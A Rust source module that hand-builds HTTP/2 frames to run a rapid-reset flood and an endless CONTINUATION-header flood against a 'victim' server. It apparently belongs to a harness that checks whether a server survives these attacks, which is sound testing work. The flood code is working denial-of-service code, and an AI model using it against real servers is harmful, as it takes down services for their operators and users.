//! HTTP/2 by hand, for what no library sends.

use std::io;

use tokio::{io::AsyncReadExt as _, net::TcpStream};

use super::{
    hold::PREFACE,
    victim::{Peer, Victim},
};

pub(super) const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Streams that one flood opens and resets.
const RESETS: u32 = 2_000;
/// Bytes of continued heads that one flood sends.
const CONTINUED_BYTES: usize = 1 << 20;

pub(super) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// `GET /health`, in HPACK.
fn health() -> Vec<u8> {
    let mut head = vec![0x82, 0x86];
    head.extend(b"\0\x05:path\x07/health\0\x0a:authority\x09localhost");
    head
}

/// Streams that are opened and reset at once, on one connection after the other.
pub(super) async fn rapid_reset(victim: &Victim) -> io::Result<()> {
    let head = health();
    let mut flood = PREFACE.to_vec();
    for stream in 0..RESETS {
        let stream = 2 * stream + 1;
        flood.extend(frame(HEADERS, END_HEADERS, stream, &head));
        flood.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
    }
    run_into(victim, &flood).await
}

/// A head that is continued without end.
pub(super) async fn continuation(victim: &Victim) -> io::Result<()> {
    let mut flood = PREFACE.to_vec();
    flood.extend(frame(HEADERS, END_STREAM, 1, &health()));
    let piece = frame(CONTINUATION, 0, 1, b"\0\x01x\x01y");
    while flood.len() < CONTINUED_BYTES {
        flood.extend(&piece);
    }
    run_into(victim, &flood).await
}

/// Sends all of it; counts whether the server ended the connection.
async fn run_into(victim: &Victim, flood: &[u8]) -> io::Result<()> {
    let mut peer = Peer(victim.connect(victim.agents).await?);
    victim.tally.opened();
    let (mut reader, mut writer) = split(&mut peer.0);
    let sending = tokio::io::AsyncWriteExt::write_all(&mut writer, flood);
    let mut piece = [0; 4096];
    let reading = async { while reader.read(&mut piece).await.is_ok_and(|read| 0 < read) {} };
    let both = async {
        // What is refused is answered before it was sent to its end.
        let (_, ()) = tokio::join!(sending, reading);
    };
    let ended = tokio::time::timeout(super::ENDS_WITHIN, both).await.is_ok();
    if ended {
        victim.tally.ended();
    }
    victim.tally.tried(ended);
    Ok(())
}

fn split(
    tcp: &mut TcpStream,
) -> (
    tokio::net::tcp::ReadHalf<'_>,
    tokio::net::tcp::WriteHalf<'_>,
) {
    tcp.split()
}
